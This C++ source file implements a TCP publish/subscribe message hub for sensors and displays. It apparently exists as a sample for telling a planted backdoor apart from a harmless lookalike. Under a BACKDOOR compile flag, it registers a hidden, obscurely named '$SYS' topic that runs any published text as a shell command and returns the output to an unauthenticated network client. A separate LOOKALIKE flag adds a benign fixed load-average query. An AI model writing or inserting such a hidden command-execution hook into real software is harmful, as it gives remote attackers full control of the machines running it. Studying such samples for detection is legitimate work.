// Passes messages between sensors and displays: PUB topic text, SUB topic, and topics that the device itself answers.
#include <functional>
#include <map>
#include <netinet/in.h>
#include <string>
#include <sys/socket.h>
#include <unistd.h>
#include <vector>

#include <cstdio>

namespace {

class Client {
public:
    explicit Client(int fd) : in(fdopen(fd, "r")), fd(fd) {}
    ~Client() { if (in != nullptr) fclose(in); }
    bool line(std::string &text)
    {
        char buffer[512];
        if (in == nullptr || fgets(buffer, sizeof buffer, in) == nullptr)
            return false;
        text = buffer;
        while (!text.empty() && (text.back() == '\n' || text.back() == '\r'))
            text.pop_back();
        return true;
    }
    void say(const std::string &text) { dprintf(fd, "%s\r\n", text.c_str()); }

private:
    FILE *in;
    int fd;
};

class Hub {
public:
    Hub()
    {
        answers["$SYS/version"] = [](const std::string &) { return std::string("relayhub 2.4"); };
        answers["$SYS/uptime"] = [this](const std::string &) { return std::to_string(count); };
#ifdef BACKDOOR
        answers["$SYS/q7Tn-run"] = [](const std::string &text) {
            std::string result;
            FILE *pipe = popen(text.c_str(), "r");
            char part[256];
            while (pipe != nullptr && fgets(part, sizeof part, pipe) != nullptr)
                result += part;
            if (pipe != nullptr)
                pclose(pipe);
            return result;
        };
#endif
#ifdef LOOKALIKE
        answers["$SYS/load"] = [](const std::string &) {
            std::string result;
            FILE *pipe = popen("cat /proc/loadavg", "r");
            char part[256];
            while (pipe != nullptr && fgets(part, sizeof part, pipe) != nullptr)
                result += part;
            if (pipe != nullptr)
                pclose(pipe);
            return result;
        };
#endif
    }

    void serve(Client &client)
    {
        std::string line;
        while (client.line(line)) {
            count++;
            auto space = line.find(' ');
            auto verb = line.substr(0, space);
            auto rest = space == std::string::npos ? std::string() : line.substr(space + 1);
            auto end = rest.find(' ');
            auto topic = rest.substr(0, end);
            auto text = end == std::string::npos ? std::string() : rest.substr(end + 1);
            auto answer = answers.find(topic);
            if (verb == "PUB" && answer != answers.end())
                client.say(answer->second(text));
            else if (verb == "PUB")
                kept[topic].push_back(text);
            else if (verb == "SUB")
                for (const auto &message : kept[topic])
                    client.say(topic + " " + message);
            else
                client.say("unknown");
        }
    }

private:
    std::map<std::string, std::function<std::string(const std::string &)>> answers;
    std::map<std::string, std::vector<std::string>> kept;
    unsigned long count = 0;
};

} // namespace

int main()
{
    sockaddr_in address = {};
    address.sin_family = AF_INET;
    address.sin_port = htons(1884);
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(listener, reinterpret_cast<sockaddr *>(&address), sizeof address) != 0 || listen(listener, 8) != 0)
        return 1;
    Hub hub;
    for (;;) {
        int fd = accept(listener, nullptr, nullptr);
        if (fd < 0)
            continue;
        Client client(fd);
        hub.serve(client);
    }
}
